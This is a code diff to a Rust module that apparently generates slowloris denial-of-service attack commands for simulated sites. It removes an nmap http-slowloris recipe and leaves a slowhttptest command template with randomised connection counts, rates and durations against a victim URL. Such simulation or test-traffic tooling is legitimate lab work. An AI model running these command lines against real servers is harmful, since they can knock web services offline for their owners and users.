@@ -1,4 +1,6 @@
 //! Web connections that are held with unfinished requests: headers, bodies, answers that nobody reads.
+//!
+//! Not nmap's `http-slowloris`: here it sent whole requests over one connection at a time, which is no attack.
 
 use fastrand::Rng;
 
@@ -7,8 +9,6 @@ use crate::site::Site;
 
 pub(super) const SLOWHTTPTEST: Recipe =
     Recipe { kind: "slowloris", tool: "slowhttptest", alone: 4, may_come_from_outside: true, make: slowhttptest };
-pub(super) const NMAP: Recipe =
-    Recipe { kind: "slowloris", tool: "nmap", alone: 2, may_come_from_outside: true, make: nmap };
 pub(super) const SCRIPT: Recipe =
     Recipe { kind: "slowloris", tool: "script", alone: 3, may_come_from_outside: true, make: script };
 
@@ -22,16 +22,6 @@ fn slowhttptest(rng: &mut Rng, site: &Site, number: u32) -> Attack {
     let line =
         format!("exec slowhttptest {how} -c {count} -r {rate} -i {interval} -l {seconds} -u http://{victim}/{page}");
     Attack::new(&SLOWHTTPTEST, site, &victim, seconds + 5, line)
-}
-
-fn nmap(rng: &mut Rng, site: &Site, _: u32) -> Attack {
-    let victim = target(rng, site);
-    let (most, interval, seconds) = (rng.u32(50..300), rng.u32(3..10), rng.u32(35..60));
-    let line = format!(
-        "exec nmap -n -Pn -p 80 --max-parallelism {most} --script http-slowloris \
-         --script-args http-slowloris.runforever=true,http-slowloris.send_interval={interval}s {victim}"
-    );
-    Attack::new(&NMAP, site, &victim, seconds, line)
 }
 
 fn script(rng: &mut Rng, site: &Site, number: u32) -> Attack {
